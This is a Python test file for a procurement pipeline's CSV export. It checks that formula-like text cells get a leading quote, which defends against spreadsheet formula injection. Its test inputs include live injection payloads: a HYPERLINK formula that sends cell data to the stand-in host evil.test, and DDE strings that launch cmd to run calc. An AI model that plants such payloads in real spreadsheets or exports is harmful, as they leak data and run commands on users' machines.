"""CSV formula injection (issue 13, item 6): a text cell a spreadsheet would run as a formula is
prefixed with a single quote (OWASP); numbers, dates and harmless text are left as they are."""

from __future__ import annotations

import datetime as dt
import io

import pandas as pd
import pytest

from procurement_pipeline.lib.export import neutralize_formula, neutralize_formulas


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.test/?x="&A1,"clique")',
        "=1+1",
        "+55 11 5555-0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",  # leading blanks do not hide a formula
        "\n@x",
        "\uff1d1+1",  # full-width equals sign
    ],
)
def test_formula_like_text_is_prefixed_with_a_quote(value):
    assert neutralize_formula(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Espuma D33", "", "café", "10 - 2", "a=b", "'já citado", "R$ 10,00", "ESP-00001"],
)
def test_other_text_is_unchanged(value):
    assert neutralize_formula(value) == value


@pytest.mark.parametrize("value", [-3.5, -1, 0, None, dt.date(2026, 1, 2), True])
def test_non_text_values_are_unchanged(value):
    assert neutralize_formula(value) is value


def test_frame_text_columns_only_negative_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "SKU": pd.Series(["-SKU-1", "OK-2"], dtype=str),
            "Produto": ["=cmd|'/C calc'!A0", "Cola"],
            "Data": [dt.date(2026, 11, 25), None],
            "Urgência (dias)": [-3.0, 12.5],
            "Quantidade": pd.Series([-2, 4], dtype="int64"),
            "Motivo": pd.Series(["@evil", None], dtype=object),
        }
    )
    out = neutralize_formulas(frame)
    assert list(out["SKU"]) == ["'-SKU-1", "OK-2"]
    assert list(out["Produto"]) == ["'=cmd|'/C calc'!A0", "Cola"]
    assert out["Motivo"].iloc[0] == "'@evil" and pd.isna(out["Motivo"].iloc[1])
    assert list(out["Data"]) == [dt.date(2026, 11, 25), None]
    assert list(out["Urgência (dias)"]) == [-3.0, 12.5]
    assert out["Urgência (dias)"].dtype == float and out["Quantidade"].dtype == "int64"
    assert list(out["Quantidade"]) == [-2, 4]
    # The input is not modified.
    assert frame["Produto"].iloc[0] == "=cmd|'/C calc'!A0"

    text = out.to_csv(index=False, sep=";", decimal=",")
    parsed = pd.read_csv(io.StringIO(text), sep=";", decimal=",")
    assert list(parsed["Urgência (dias)"]) == [-3.0, 12.5]
    assert parsed["Produto"].iloc[0] == "'=cmd|'/C calc'!A0"
